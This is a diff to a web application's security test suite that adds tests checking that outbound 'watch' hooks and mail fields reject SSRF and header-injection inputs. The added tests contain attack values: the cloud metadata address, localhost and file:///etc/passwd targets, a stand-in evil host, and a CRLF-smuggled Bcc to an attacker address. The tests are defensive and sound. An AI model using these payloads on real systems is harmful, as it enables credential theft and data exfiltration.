@@ -97,6 +97,18 @@ ATTACKS.every("host header", {
     "a proxy's word on the address is not taken": lambda g: g.nobody.get("/queue", headers={"X-Original-URL": "/login"}),
 }, 303)  # fmt: skip
 
+WATCHED = {"kind": "list", "name": "x", "source": "0888 001 001"}
+ATTACKS.every("calling out", {
+    "to the cloud's own address": lambda g: g.analyst.post("/watches", data={**WATCHED, "hook": "http://169.254.169.254/latest/"}),
+    "to this machine": lambda g: g.analyst.post("/watches", data={**WATCHED, "hook": "http://127.0.0.1:9200/_all"}),
+    "to a file": lambda g: g.analyst.post("/watches", data={**WATCHED, "hook": "file:///etc/passwd"}),
+    "to an outsider": lambda g: g.analyst.post("/watches", data={**WATCHED, "hook": f"{EVIL}/in"}),
+    "by mail to an outsider": lambda g: g.analyst.post("/watches", data={**WATCHED, "mail": "thief@evil.example.org"}),
+    "by mail with a second receiver": lambda g: g.analyst.post(
+        "/watches", data={**WATCHED, "mail": "a@example.org\r\nBcc: thief@evil.example.org"}
+    ),
+}, 422)  # fmt: skip
+
 ATTACKS.every("smuggling", {
     "a length that is none": lambda g: g.analyst.post("/views", content=b"name=x", headers={"Content-Length": "6, 60", **FORM}),
     "a length in other digits": lambda g: g.analyst.post(
@@ -254,7 +266,7 @@ ATTACKS.every("method", {
 @ATTACKS.add("caches and frames", "every private page and answer", 200, 401, 303)
 def _private(g: Ground) -> Sequence[Any]:
     paths = ("/queue", f"/adverts/{g.advert}", f"/clusters/{g.cluster}", "/search?q=a", "/audit", "/api", "/account")
-    found = [*(g.client(Role.LEAD).get(path) for path in paths), g.client(Role.ADMIN).get("/tokens")]
+    found = [*(g.client(Role.AUDITOR).get(path) for path in paths), g.client(Role.ADMIN).get("/tokens")]
     for answer in found:
         assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
         assert answer.headers["x-frame-options"] == "DENY"
